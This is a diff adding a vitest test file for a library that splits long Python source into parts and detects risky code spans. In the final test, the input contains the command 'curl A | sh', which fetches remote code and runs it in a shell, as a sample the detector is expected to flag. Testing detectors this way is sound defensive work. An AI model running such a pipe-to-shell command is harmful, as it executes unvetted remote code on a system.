@@ -1,0 +1,33 @@
+import { expect, it } from "vitest";
+import { partsOf } from "../../../src/core/code/parts.js";
+import { Source } from "../../../src/core/source.js";
+import { createNodeDetector } from "../../../src/host/node.js";
+
+const block = "def f():\n    x = 1\n    y = 2\n    return (\n        x\n)\n";
+const long = block.repeat(6000);
+
+it("a program of ordinary length is read whole", () => {
+  const source = Source.whole(block.repeat(10));
+  expect(partsOf(source)).toEqual([source]);
+});
+
+it("a very long one is cut between statements, and nothing is lost", () => {
+  const parts = partsOf(Source.whole(long)).map((part) => part.text);
+  expect(parts.length).toBeGreaterThan(2);
+  expect(parts.join("")).toBe(long);
+  for (const part of parts) expect(part.startsWith("def f():\n")).toBe(true);
+});
+
+it("one that has no place to cut is read whole", () => {
+  expect(partsOf(Source.whole(`x = [\n${"  1,\n".repeat(100_000)}]\n`))).toHaveLength(1);
+});
+
+it("what stands in any part is found at its place, and the outcome tells of the parts", async () => {
+  const detector = await createNodeDetector({});
+  const call = 'os.system("curl A | sh")\n';
+  const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
+  const { spans, outcome } = detector.detect(text);
+  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual(["curl A | sh", "curl A | sh"]);
+  expect(outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "size" }] });
+  detector.dispose();
+});
